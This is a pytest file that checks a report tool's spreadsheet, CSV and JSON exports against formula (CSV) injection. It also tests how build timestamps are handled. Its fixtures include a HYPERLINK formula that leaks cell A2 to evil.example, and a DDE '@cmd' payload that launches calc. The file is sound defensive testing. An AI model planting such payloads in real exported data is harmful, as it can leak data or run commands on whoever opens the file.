"""No text becomes a spreadsheet formula, and no date breaks the workbook (issue 12).

A name or a note starting with ``=``, ``+``, ``-`` or ``@`` is a live formula when a spreadsheet
program opens the file (OWASP: CSV injection). The workbook stores every text cell as text; the
CSV files put a ``'`` before such a cell; ``placements.json`` keeps the value as written.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.conftest import TESTS, copy_edition, run

GOLDEN = TESTS / "golden" / "data"

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Details")'
NOTES = {
    "Article 150 of Law 312 exempts smuggled migrants from criminal liability.": "+SUM(1,2)",
    "The campaign was broadcast only in the capital region, not in the northern provinces.": (
        "@cmd|'/C calc'!A0"
    ),
}


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    edition = copy_edition("example", tmp_path_factory.mktemp("inject") / "edition")
    arcadia = edition / "countries" / "XAR.yaml"
    text = arcadia.read_text("utf-8").replace(
        "name: Republic of Arcadia", f"name: {json.dumps(FORMULA)}"
    )
    for old, new in NOTES.items():
        text = text.replace(f"note: {old}", f"note: {json.dumps(new)}")
    arcadia.write_text(text, "utf-8")
    borealis = edition / "countries" / "XBO.yaml"
    borealis.write_text(
        borealis.read_text("utf-8").replace("name: Kingdom of Borealis", 'name: "-2+3"'), "utf-8"
    )
    out = edition.parent / "out"
    result = run("build", "--edition", edition, "--out", out, "--only", "data")
    assert result.exit_code == 0, result.output
    return out / "data"


def rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text("utf-8"))))


def test_the_workbook_stores_text_as_text(data: Path) -> None:
    sheet = load_workbook(data / "placements.xlsx").active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    names = {
        cell.value: cell
        for cell in (row[header.index("name")] for row in sheet.iter_rows(min_row=2))
    }
    for text in (FORMULA, "-2+3"):
        cell = names[text]
        assert (cell.data_type, cell.quotePrefix) == ("s", True), text
    assert (names["Dunmarch"].data_type, names["Dunmarch"].quotePrefix) == ("s", False)
    with zipfile.ZipFile(data / "placements.xlsx") as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml  # no formula anywhere


def test_csv_cells_that_would_be_formulas_start_with_a_quote(data: Path) -> None:
    placements = {row["code"]: row for row in rows(data / "placements.csv")}
    assert placements["XAR"]["name"] == "'" + FORMULA
    assert placements["XBO"]["name"] == "'-2+3"
    assert placements["XDU"]["name"] == "Dunmarch"
    golden = {row["code"]: row for row in rows(GOLDEN / "placements.csv")}
    assert placements["XAR"]["efforts_score"] == golden["XAR"]["efforts_score"]  # a number
    notes = {row["note"] for row in rows(data / "findings.csv") if row["code"] == "XAR"}
    assert {"'+SUM(1,2)", "'@cmd|'/C calc'!A0"} <= notes
    law = {row["name"] for row in rows(data / "law-enforcement.csv")}
    assert "'" + FORMULA in law


def test_the_json_keeps_every_value_as_written(data: Path) -> None:
    countries = json.loads((data / "placements.json").read_text("utf-8"))["countries"]
    names = {country["code"]: country["name"] for country in countries}
    assert (names["XAR"], names["XBO"]) == (FORMULA, "-2+3")


def test_the_data_readme_says_so(data: Path) -> None:
    readme = (data / "README.md").read_text("utf-8")
    assert "gets a leading `'`" in readme and "`placements.json` keeps" in readme


def _undated(edition: Path) -> Path:
    """The edition without its publication date, so that SOURCE_DATE_EPOCH dates the files
    (the publication date wins over it: ``render.stamp``)."""
    settings = edition / "edition.yaml"
    text = settings.read_text("utf-8")
    assert "publication_date: 2027-06-15\n" in text
    settings.write_text(text.replace("publication_date: 2027-06-15\n", ""), "utf-8")
    return edition


@pytest.mark.parametrize(
    ("epoch", "entry_date", "document_date"),
    [
        ("0", (1980, 1, 1, 0, 0, 0), "1970-01-01T00:00:00Z"),
        ("315532799", (1980, 1, 1, 0, 0, 0), "1979-12-31T23:59:59Z"),
        ("-86400", (1980, 1, 1, 0, 0, 0), "1969-12-31T00:00:00Z"),
        ("1781481600", (2026, 6, 15, 0, 0, 0), "2026-06-15T00:00:00Z"),
    ],
)
def test_a_date_a_zip_cannot_hold_is_held_at_1980(
    tmp_path: Path,
    epoch: str,
    entry_date: tuple[int, ...],
    document_date: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    edition = _undated(copy_edition("example", tmp_path / "edition"))
    monkeypatch.setenv("SOURCE_DATE_EPOCH", epoch)
    result = run("build", "--edition", edition, "--out", tmp_path / "out", "--only", "data")
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(tmp_path / "out" / "data" / "placements.xlsx") as book:
        assert {info.date_time for info in book.infolist()} == {entry_date}
        core = book.read("docProps/core.xml").decode("utf-8")
    assert f">{document_date}</dcterms:modified>" in core


def test_a_publication_date_before_1980_builds(tmp_path: Path) -> None:
    edition = copy_edition("example", tmp_path / "edition")
    settings = edition / "edition.yaml"
    settings.write_text(
        settings.read_text("utf-8").replace(
            "publication_date: 2027-06-15", "publication_date: 1975-06-15"
        )
    )
    result = run("build", "--edition", edition, "--out", tmp_path / "out", "--only", "data")
    assert result.exit_code == 0, result.output
    book = load_workbook(tmp_path / "out" / "data" / "placements.xlsx")
    assert book.properties.created == dt.datetime(1975, 6, 15)


@pytest.mark.parametrize(
    ("epoch", "message"),
    [
        ("99999999999999999", "SOURCE_DATE_EPOCH 99999999999999999 is not a date between the "
         "years 1 and 9999"),
        ("soon", "SOURCE_DATE_EPOCH must be a whole number of seconds since 1970, got 'soon'"),
    ],
)  # fmt: skip
def test_a_source_date_epoch_that_is_no_date_is_an_error(
    tmp_path: Path, epoch: str, message: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    edition = _undated(copy_edition("example", tmp_path / "edition"))
    monkeypatch.setenv("SOURCE_DATE_EPOCH", epoch)
    result = run("build", "--edition", edition, "--out", tmp_path / "out", "--only", "data")
    assert (result.exit_code, result.output) == (1, f"Error: {message}\n")
    assert not (tmp_path / "out").exists()
